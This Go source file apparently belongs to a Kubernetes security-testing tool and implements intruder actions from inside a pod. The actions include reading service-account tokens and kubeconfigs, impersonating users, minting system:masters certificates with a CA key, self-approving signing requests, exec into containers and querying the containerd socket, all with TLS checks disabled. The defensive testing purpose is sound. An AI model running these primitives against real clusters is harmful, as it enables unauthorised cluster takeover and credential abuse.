//go:build linux

package main

import (
	"bytes"
	"context"
	"crypto/ecdsa"
	"crypto/elliptic"
	"crypto/rand"
	"crypto/tls"
	"crypto/x509"
	"crypto/x509/pkix"
	"encoding/base64"
	"encoding/json"
	"encoding/pem"
	"errors"
	"fmt"
	"io"
	"math/big"
	"net"
	"net/http"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"time"

	"github.com/redoubt-k8s/redoubt/internal/nodetest/stream"
)

// server is the address of the API server as pods know it.
func server() string {
	return "https://" + net.JoinHostPort(env("KUBERNETES_SERVICE_HOST"), env("KUBERNETES_SERVICE_PORT"))
}

func contentType(method string) string {
	if method == http.MethodPatch {
		return "application/merge-patch+json"
	}
	return "application/json"
}

// body is an argument that may be missing.
func body(args []string, at int) io.Reader {
	if len(args) <= at {
		return http.NoBody
	}
	return strings.NewReader(args[at])
}

// api asks the API server with the token of the pod: METHOD PATH [BODY].
func api(a []string) (string, error) {
	return ask(a[0], a[1], contentType(a[0]), body(a, 2))
}

// trusting is for servers whose authority the pod was not told: the intruder
// does not mind.
func trusting() *tls.Config {
	return &tls.Config{InsecureSkipVerify: true}
}

// bearer asks with a token from a file, or none: FILE METHOD PATH [BODY]. A path
// may be a whole address.
func bearer(a []string) (string, error) {
	token := ""
	if a[0] != "" {
		files, err := filepath.Glob(a[0])
		if err != nil || len(files) == 0 {
			return "", errors.Join(errors.New("no file "+a[0]), err)
		}
		content, err := os.ReadFile(files[0])
		if err != nil {
			return "", err
		}
		token = string(content)
	}
	return send(&sending{method: a[1], url: whole(a[2]), token: token, contentType: contentType(a[1]), body: body(a, 3), tls: trusting()})
}

func whole(path string) string {
	if strings.HasPrefix(path, "/") {
		return server() + path
	}
	return path
}

// posing asks as somebody else, by impersonation: USER GROUPS METHOD PATH [BODY].
func posing(a []string) (string, error) {
	token, err := os.ReadFile(account + "token")
	if err != nil {
		return "", err
	}
	header := http.Header{"Impersonate-User": {a[0]}}
	if a[1] != "" {
		header["Impersonate-Group"] = strings.Split(a[1], ",")
	}
	return send(&sending{
		method: a[2], url: server() + a[3], token: string(token), contentType: contentType(a[2]), body: body(a, 4), tls: trusting(), header: header,
	})
}

// as asks with a kubeconfig, wherever its server is: FILE METHOD PATH [BODY].
func as(a []string) (string, error) {
	content, err := os.ReadFile(a[0])
	if err != nil {
		return "", err
	}
	if _, users, ok := strings.Cut(string(content), "\nusers: "); ok {
		users, _, _ = strings.Cut(users, "\n")
		content = []byte(`{"users": ` + users + "}")
	}
	var config struct {
		Users []struct {
			User struct {
				Certificate []byte `json:"client-certificate-data"`
				Key         []byte `json:"client-key-data"`
				Token       string `json:"token"`
			} `json:"user"`
		} `json:"users"`
	}
	if err := json.Unmarshal(content, &config); err != nil || len(config.Users) == 0 {
		return "", errors.Join(errors.New("no user in "+a[0]), err)
	}
	user, secure := config.Users[0].User, trusting()
	if user.Token == "" {
		pair, err := tls.X509KeyPair(user.Certificate, user.Key)
		if err != nil {
			return "", err
		}
		secure.Certificates = []tls.Certificate{pair}
	}
	return send(&sending{method: a[1], url: server() + a[2], token: user.Token, contentType: contentType(a[1]), body: body(a, 3), tls: secure})
}

// mint signs a certificate of a cluster administrator with the authority's key
// and asks with it: FOLDER METHOD PATH.
func mint(a []string) (string, error) {
	authority, err := tls.LoadX509KeyPair(filepath.Join(a[0], "ca.crt"), filepath.Join(a[0], "ca.key"))
	if err != nil {
		return "", err
	}
	parent, err := x509.ParseCertificate(authority.Certificate[0])
	if err != nil {
		return "", err
	}
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return "", err
	}
	now := time.Now() //nolint:forbidigo // a certificate is of today
	template := &x509.Certificate{
		SerialNumber: big.NewInt(now.UnixNano()), Subject: pkix.Name{CommonName: "intruder", Organization: []string{"system:masters"}},
		NotBefore: now.Add(-time.Minute), NotAfter: now.Add(time.Hour), ExtKeyUsage: []x509.ExtKeyUsage{x509.ExtKeyUsageClientAuth},
	}
	der, err := x509.CreateCertificate(rand.Reader, template, parent, key.Public(), authority.PrivateKey)
	if err != nil {
		return "", err
	}
	secure := trusting()
	secure.Certificates = []tls.Certificate{{Certificate: [][]byte{der}, PrivateKey: key}}
	return send(&sending{method: a[1], url: server() + a[2], tls: secure})
}

// execute runs a command in a container by a WebSocket: ADDRESS CONTAINER
// COMMAND..., the address being a path of the API or a whole one.
func execute(a []string) (string, error) {
	token, err := os.ReadFile(account + "token")
	if err != nil && !errors.Is(err, os.ErrNotExist) {
		return "", err
	}
	query := url.Values{"stdout": {"1"}, "stderr": {"1"}, "output": {"1"}, "error": {"1"}, "container": {a[1]}, "command": a[2:]}
	if a[1] == "" {
		query.Del("container")
	}
	header := make(http.Header)
	if len(token) > 0 {
		header.Set("Authorization", "Bearer "+string(token))
	}
	return stream.Run(whole(a[0])+"?"+query.Encode(), header, trusting())
}

// certify asks for a client certificate, approves the request, and uses what
// comes: SIGNER USER GROUP, then what to ask: METHOD PATH.
func certify(a []string) (string, error) {
	key, err := ecdsa.GenerateKey(elliptic.P256(), rand.Reader)
	if err != nil {
		return "", err
	}
	subject := pkix.Name{CommonName: a[1], Organization: []string{a[2]}}
	der, err := x509.CreateCertificateRequest(rand.Reader, &x509.CertificateRequest{Subject: subject}, key)
	if err != nil {
		return "", err
	}
	asked := pem.EncodeToMemory(&pem.Block{Type: "CERTIFICATE REQUEST", Bytes: der})
	const list = "/apis/certificates.k8s.io/v1/certificatesigningrequests"
	name := fmt.Sprintf("redoubt-%d", os.Getpid())
	request := map[string]any{
		"apiVersion": "certificates.k8s.io/v1", "kind": "CertificateSigningRequest", "metadata": map[string]any{"name": name},
		"spec": map[string]any{
			"request": base64.StdEncoding.EncodeToString(asked), "signerName": a[0],
			"usages": []string{"digital signature", "client auth"},
		},
	}
	text, err := json.Marshal(request)
	if err != nil {
		return "", err
	}
	if _, err := ask(http.MethodPost, list, "application/json", bytes.NewReader(text)); err != nil {
		return "", err
	}
	request["status"] = map[string]any{"conditions": []any{map[string]any{
		"type": "Approved", "status": "True", "reason": "Intruder", "message": "by the intruder",
	}}}
	text, err = json.Marshal(request)
	if err != nil {
		return "", err
	}
	return useCertificate(list+"/"+name+"/approval", text, key, a[3:])
}

// useCertificate approves a request until the answer has what the signer made,
// so that no right to read is needed, and asks with the certificate.
func useCertificate(approval string, text []byte, key *ecdsa.PrivateKey, a []string) (string, error) {
	for range 50 {
		said, err := ask(http.MethodPut, approval, "application/json", bytes.NewReader(text))
		if err != nil {
			return "", err
		}
		var got struct {
			Status struct {
				Certificate []byte `json:"certificate"`
			} `json:"status"`
		}
		if err := json.Unmarshal([]byte(said), &got); err != nil {
			return "", err
		}
		if block, _ := pem.Decode(got.Status.Certificate); block != nil {
			secure := trusting()
			secure.Certificates = []tls.Certificate{{Certificate: [][]byte{block.Bytes}, PrivateKey: key}}
			return send(&sending{method: a[0], url: server() + a[1], contentType: contentType(a[0]), body: body(a, 2), tls: secure})
		}
		time.Sleep(100 * time.Millisecond)
	}
	return "", errors.New("nobody signs the certificate")
}

// containers asks a container runtime for its containers, and looks for a text
// among what it says of them: SOCKET TEXT.
func containers(a []string) (string, error) {
	protocols := new(http.Protocols)
	protocols.SetUnencryptedHTTP2(true)
	client := &http.Client{Timeout: 10 * time.Second, Transport: &http.Transport{
		Protocols: protocols,
		DialContext: func(ctx context.Context, _, _ string) (net.Conn, error) {
			return new(net.Dialer).DialContext(ctx, "unix", a[0])
		},
	}}
	// A gRPC message is a zero byte, four of size, and here nothing.
	request, err := http.NewRequest(http.MethodPost, "http://runtime/containerd.services.containers.v1.Containers/List", bytes.NewReader(make([]byte, 5))) //nolint:noctx // the client has a timeout
	if err != nil {
		return "", err
	}
	request.Header.Set("Content-Type", "application/grpc")
	request.Header.Set("Te", "trailers")
	request.Header.Set("Containerd-Namespace", "k8s.io")
	response, err := client.Do(request)
	if err != nil {
		return "", err
	}
	defer response.Body.Close() //nolint:errcheck // only read
	said, err := io.ReadAll(response.Body)
	if err != nil {
		return "", err
	}
	if !bytes.Contains(said, []byte(a[1])) {
		return "", fmt.Errorf("%d bytes of the runtime do not hold %s: %s", len(said), a[1], response.Trailer.Get("Grpc-Message"))
	}
	return "the runtime tells of " + a[1], nil
}
